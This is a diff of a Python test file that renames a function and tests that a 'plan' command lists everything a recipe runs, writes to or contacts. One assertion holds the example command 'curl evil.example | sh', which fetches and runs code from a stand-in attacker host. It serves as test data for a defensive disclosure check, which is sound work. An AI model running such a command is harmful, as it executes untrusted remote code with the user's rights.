@@ -3,7 +3,7 @@
 from pathlib import Path
 
 from flows.recipes.recipe import parse_recipe
-from flows.run.plan_reach import reach_of
+from flows.run.plan_reach import find_reach
 
 STRANGER = """
 name = "one"
@@ -51,7 +51,8 @@ webhook = "HOOK"
 def test_everything_that_a_recipe_reaches_is_listed(tmp_path: Path) -> None:
     """Law: a recipe is a program. Fails where it runs, writes to or asks what `cloze plan` does not say."""
     reach = {
-        what: " ; ".join(entries) for what, entries in reach_of(parse_recipe(STRANGER, tmp_path / "a.toml", {})).items()
+        what: " ; ".join(entries)
+        for what, entries in find_reach(parse_recipe(STRANGER, tmp_path / "a.toml", {})).items()
     }
     assert reach["runs"] == "sh -c 'curl evil.example | sh' (notify.command, with your rights)"
     for place in ("s3://bucket/prefix", "/far (fetch of addresses)", f"{tmp_path}/raw/listed", f"{tmp_path}/raw/wiki"):
@@ -77,5 +78,5 @@ def test_everything_that_a_recipe_reaches_is_listed(tmp_path: Path) -> None:
 
 def test_a_recipe_of_ones_own_files_reaches_its_store_alone(tmp_path: Path) -> None:
     text = '[[source]]\nkind = "files"\nname = "a"\npath = "here"\n[vocabulary]\n'
-    reach = reach_of(parse_recipe(text, tmp_path / "a.toml", {}))
+    reach = find_reach(parse_recipe(text, tmp_path / "a.toml", {}))
     assert reach == {"runs": [], "writes to": [f"{tmp_path}/store (store)"], "asks": []}
